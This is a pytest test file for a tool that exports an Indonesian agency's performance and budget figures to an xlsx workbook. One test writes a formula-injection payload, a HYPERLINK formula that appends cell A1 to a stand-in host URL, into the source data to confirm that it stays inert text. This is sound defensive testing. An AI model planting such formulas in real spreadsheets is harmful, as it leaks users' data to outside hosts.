"""`lakip figures --format xlsx` and the site's `tabel-kinerja-YYYY.xlsx` (issue 15).

The workbook is written from the sample repository, read back with openpyxl and compared with
`lakip figures --format json` and with figures worked out by hand; the site's download is the
same file, byte for byte; LibreOffice opens it without complaint.
"""

from __future__ import annotations

import json
import os
import pty
import re
import shutil
import subprocess
import sys
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from helpers import REPO, run_lakip
from lakip.formatting import round_half_up
from lakip.office.figures_book import SHEETS
from lakip.office.workbook import RUPIAH_FORMAT

HEADER_ROW = 3
# LibreOffice's CSV filter: comma, double quote, UTF-8 (76), cells as shown (formatted)
CSV_OPTIONS = "44,34,76,1,,0,false,true,true"


def _workbook(root: Path, out: Path, *extra: str) -> openpyxl.Workbook:
    code, stdout, stderr = run_lakip("--root", root, "figures", "--format", "xlsx", "--out", out,
                                     *extra)  # fmt: skip
    assert code == 0, stderr
    assert stdout == f"Buku kerja tabel kinerja ditulis: {out} (9 lembar)\n"
    return openpyxl.load_workbook(out)


def _rows(sheet) -> dict[str, dict[str, object]]:
    """Data rows by their first cell, each as {header: cell}."""
    headers = [c.value for c in sheet[HEADER_ROW]]
    found = {}
    for row in sheet.iter_rows(min_row=HEADER_ROW + 1):
        found[row[0].value] = dict(zip(headers, row, strict=True))
    return found


def _figures_json(root: Path) -> dict:
    code, stdout, stderr = run_lakip("--root", root, "figures", "--format", "json")
    assert code == 0, stderr
    return json.loads(stdout)


def test_values_equal_the_json_figures_and_the_hand_worked_ones(repo, tmp_path):
    book = _workbook(repo.root, tmp_path / "tabel.xlsx")
    assert book.sheetnames == list(SHEETS)
    data = _figures_json(repo.root)
    measured = _rows(book["Pengukuran"])
    for item in data["indicators"]:
        row = measured[item["indicator"]["code"]]
        if item["capaian"]["value"] is not None:
            # the cell holds the capaian as printed: the JSON's exact value rounded as the report
            printed = round_half_up(Decimal(item["capaian"]["value"]), 2)
            assert Decimal(str(row["Capaian (%)"].value)) == printed
        if item["realisation"] is not None:
            assert Decimal(str(row["Realisasi"].value)) == Decimal(item["realisation"])
        assert row["Kategori"].value == (item["category"] or "-")
    # by hand: 92,22 / 90 x 100 = 102,4666... -> 102,47
    first = measured["IKU-01"]
    assert (first["Target"].value, first["Realisasi"].value) == (90, 92.22)
    assert first["Capaian (%)"].value == 102.47
    assert first["Capaian (%)"].number_format == "#,##0.00"
    assert first["Target"].number_format == "#,##0.00"  # printed 90,00 beside 92,22 in the PDF
    # negative polarity, (2 x 254 - 181) / 254 x 100 = 128,740... -> 128,74
    assert measured["IKU-13"]["Capaian (%)"].value == 128.74
    # a ratio keeps its four places; a count has none
    assert measured["IKU-09"]["Realisasi"].value == 0.0189
    assert measured["IKU-09"]["Realisasi"].number_format == "#,##0.0000"
    assert measured["IKU-02"]["Realisasi"].number_format == "#,##0"
    # a range target reads as the report prints it, as text
    assert measured["IKU-16"]["Target"].value == "82,00–88,30"  # as the PDF table


def test_budget_and_efficiency_are_money_and_percent_numbers(repo, tmp_path):
    book = _workbook(repo.root, tmp_path / "tabel.xlsx")
    data = _figures_json(repo.root)
    budget = _rows(book["Anggaran"])
    line = budget["8.01.01.2.01"]
    # by hand: 118.962.500 / 124.500.000 x 100 = 95,5522... -> 95,55; sisa 5.537.500
    assert [line[h].value for h in ("Pagu", "Realisasi", "Serapan (%)", "Sisa")] == [
        124500000, 118962500, 95.55, 5537500]  # fmt: skip
    assert line["Pagu"].number_format == RUPIAH_FORMAT
    assert line["Serapan (%)"].number_format == "#,##0.00"
    sheet = book["Anggaran"]
    total = [c.value for c in sheet[sheet.max_row]]
    assert total[:4] == [None, "Jumlah", int(data["budget"]["pagu"]),
                         int(data["budget"]["realisation"])]  # fmt: skip
    assert sheet.cell(sheet.max_row, 2).font.bold
    pk_total = book["PK Anggaran"].cell(book["PK Anggaran"].max_row, 3).value
    assert pk_total == int(data["budget"]["pagu"])
    efficiency = _rows(book["Efisiensi"])
    # S1: 103,86 - 96,53 = 7,33 points: efisien
    s1 = efficiency["S1"]
    assert (s1["Rata-rata Capaian (%)"].value, s1["Serapan (%)"].value) == (103.86, 96.53)
    assert (s1["Selisih (poin)"].value, s1["Kategori Efisiensi"].value) == (7.33, "Efisien")
    # Renstra progress and the three years: the history's own figures
    progress = _rows(book["Renstra"])["IKU-02"]
    assert (progress["Target Akhir"].value, progress["Kekurangan"].value) == (1800, 116)
    history = _rows(book["Perbandingan"])["IKU-01"]
    assert [history[f"Realisasi {y}"].value for y in (2023, 2024, 2025)] == [86.72, 88.91, 92.22]


def test_title_rows_header_and_notes(repo, tmp_path):
    book = _workbook(repo.root, tmp_path / "tabel.xlsx")
    for name in SHEETS:
        sheet = book[name]
        assert sheet["A1"].value.endswith("Badan Kesatuan Bangsa dan Politik (DRAF)"), name
        assert sheet.freeze_panes == "A4"
        assert all(c.font.bold for c in sheet[HEADER_ROW] if c.value)
        assert sheet.column_dimensions["B"].width > 10
    notes = {r["Hal"].value: r["Keterangan"].value for r in _notes(book)}
    assert notes["Commit"] == repo.git("rev-parse", "HEAD").strip()
    assert notes["Tanggal data"] == "14 Januari 2025"  # the commit's date, never the clock
    assert notes["Status"] == "DRAF (belum final)"
    assert "(2 × Target − Realisasi) / Target × 100" in notes["Capaian, polaritas negatif"]


def _notes(book) -> list[dict]:
    sheet = book["Keterangan"]
    headers = [c.value for c in sheet[HEADER_ROW]]
    rows = sheet.iter_rows(min_row=HEADER_ROW + 1)
    return [{h: c for h, c in zip(headers, row, strict=True)} for row in rows]


def test_same_commit_same_bytes_and_stdout_is_the_same_file(repo, tmp_path):
    _workbook(repo.root, tmp_path / "a.xlsx")
    _workbook(repo.root, tmp_path / "b.xlsx")
    first = (tmp_path / "a.xlsx").read_bytes()
    assert first == (tmp_path / "b.xlsx").read_bytes()
    piped = subprocess.run(
        [sys.executable, "-m", "lakip", "--root", str(repo.root), "figures", "--format", "xlsx"],
        capture_output=True,
        check=False,
        env={**os.environ, "PYTHONPATH": str(REPO / "scripts")},
    )
    assert piped.returncode == 0, piped.stderr
    assert piped.stdout == first


def test_a_terminal_and_out_without_xlsx_are_usage_errors(repo, tmp_path):
    primary, secondary = pty.openpty()
    try:
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "lakip",
                "--root",
                str(repo.root),
                "figures",
                "--format",
                "xlsx",
            ],  # fmt: skip
            stdout=secondary,
            stderr=subprocess.PIPE,
            check=False,
            env={**os.environ, "PYTHONPATH": str(REPO / "scripts")},
        )
    finally:
        os.close(secondary)
        os.close(primary)
    assert done.returncode == 2
    assert b"--out" in done.stderr and b"tidak dicetak ke layar" in done.stderr
    code, _, stderr = run_lakip("--root", repo.root, "figures", "--out", tmp_path / "x.csv")
    assert code == 2
    assert "--out hanya untuk --format xlsx" in stderr
    assert not (tmp_path / "x.csv").exists()


def test_findings_write_nothing(repo, tmp_path):
    repo.write({"reports/2025/pk.yml": repo.read("reports/2025/pk.yml").replace(
        "tahun: 2025", "tahun: 2025\nbukan_kunci: 1", 1)})  # fmt: skip
    code, _, stderr = run_lakip("--root", repo.root, "figures", "--format", "xlsx", "--out",
                                tmp_path / "t.xlsx")  # fmt: skip
    assert code == 1
    assert "bukan_kunci" in stderr
    assert not (tmp_path / "t.xlsx").exists()


@pytest.mark.slow
def test_the_site_offers_the_same_workbook_beside_the_csv(repo, tmp_path):
    from lakip.pipeline import build_preview

    result = build_preview(repo.root, tmp_path / "site")
    assert result.site is not None, result.findings  # a preview has no PDF
    html = (tmp_path / "site/index.html").read_text(encoding="utf-8")
    links = re.findall(r'<a href="([^"]+)" download>', html)
    assert links[-3:] == ["2025/unduh/capaian-2025.csv", "2025/unduh/capaian-2025.json",
                          "2025/unduh/tabel-kinerja-2025.xlsx"]  # fmt: skip
    download = tmp_path / "site" / links[-1]
    _workbook(repo.root, tmp_path / "cli.xlsx")
    assert download.read_bytes() == (tmp_path / "cli.xlsx").read_bytes()
    assert openpyxl.load_workbook(download).sheetnames == list(SHEETS)


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_it(repo, tmp_path):
    _workbook(repo.root, tmp_path / "tabel.xlsx")
    profile = tmp_path / "lo-profile"
    done = subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--convert-to",
            f"csv:Text - txt - csv (StarCalc):{CSV_OPTIONS}",
            "--outdir",
            str(tmp_path / "csv"),
            str(tmp_path / "tabel.xlsx"),
        ],  # fmt: skip
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    text = (tmp_path / "csv/tabel.csv").read_text(encoding="utf-8")
    lines = text.splitlines()
    assert lines[0].startswith("Perjanjian Kinerja Tahun 2025")
    assert lines[2].startswith("Kode Sasaran,Sasaran Strategis,Kode,Indikator Kinerja")
    # numbers kept their formats: LibreOffice (English here) shows 90.00 and 1,600 as stored
    assert ",IKU-01,Persentase masyarakat" in lines[3] and lines[3].endswith(",%,90.00,")
    assert lines[4].endswith(',orang,"1,600",')


def test_renstra_text_stays_text(sample_copy, tmp_path):
    renstra = sample_copy / "reports/renstra.yml"
    text = renstra.read_text(encoding="utf-8")
    head = "          - kode: IKU-01\n            uraian: "
    start = text.index(head) + len(head)
    hostile = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
    text = text[:start] + json.dumps(hostile) + text[text.index("\n", start) :]
    renstra.write_text(text.replace('satuan: "%"', 'satuan: "=1+1"', 1), encoding="utf-8")
    book = _workbook(sample_copy, tmp_path / "tabel.xlsx")
    cell = _rows(book["Pengukuran"])["IKU-01"]["Indikator Kinerja"]
    assert (cell.value, cell.data_type) == (hostile, "s")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row), sheet.title
    with zipfile.ZipFile(tmp_path / "tabel.xlsx") as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) for n in sheets)


def test_a_final_workbook_has_no_draft_mark(repo, tmp_path):
    book = _workbook(repo.root, tmp_path / "final.xlsx", "--final")
    assert (
        book["PK"]["A1"].value == "Perjanjian Kinerja Tahun 2025: Badan Kesatuan Bangsa dan Politik"
    )
    notes = {r["Hal"].value: r["Keterangan"].value for r in _notes(book)}
    assert notes["Status"] == "Final"


def test_the_code_column_is_sized_to_the_codes_not_the_title(repo, tmp_path):
    sheet = _workbook(repo.root, tmp_path / "tabel.xlsx")["Pengukuran"]
    assert sheet.column_dimensions["A"].width == len("IKU-01") + 2


def test_the_comparison_sheet_takes_the_published_years_from_riwayat(tmp_path):
    from test_history import first_year_agency

    agency = first_year_agency(tmp_path / "agency")
    book = _workbook(agency, tmp_path / "tabel.xlsx")
    assert book["Perbandingan"]["A1"].value.startswith("Perbandingan Realisasi dan Capaian Tahun "
                                                       "2021–2023")  # fmt: skip
    row = _rows(book["Perbandingan"])["IKU-01"]
    # 2021: 83,10 / 84 x 100 = 98,93 (computed); 2022: 99,00 as published (98,79 computed)
    assert (row["Realisasi 2021"].value, row["Capaian 2021 (%)"].value) == (83.1, 98.93)
    assert (row["Realisasi 2022"].value, row["Capaian 2022 (%)"].value) == (83.97, 99)
    assert row["Realisasi 2021"].number_format == "#,##0.00"


def test_the_national_standard_sheet(repo, tmp_path):
    rows = _rows(_workbook(repo.root, tmp_path / "tabel.xlsx")["Standar Nasional"])
    assert list(rows) == ["IKU-06"]  # the sample's one indicator with a national standard
    row = rows["IKU-06"]
    # 79,34 against the national 79,51: 0,17 below, so not yet met
    assert [row[h].value for h in ("Standar Nasional", "Realisasi 2025", "Selisih")] == [
        79.51, 79.34, -0.17]  # fmt: skip
    assert row["Keterangan"].value == "Belum memenuhi"
    assert row["Selisih"].number_format == "#,##0.00"
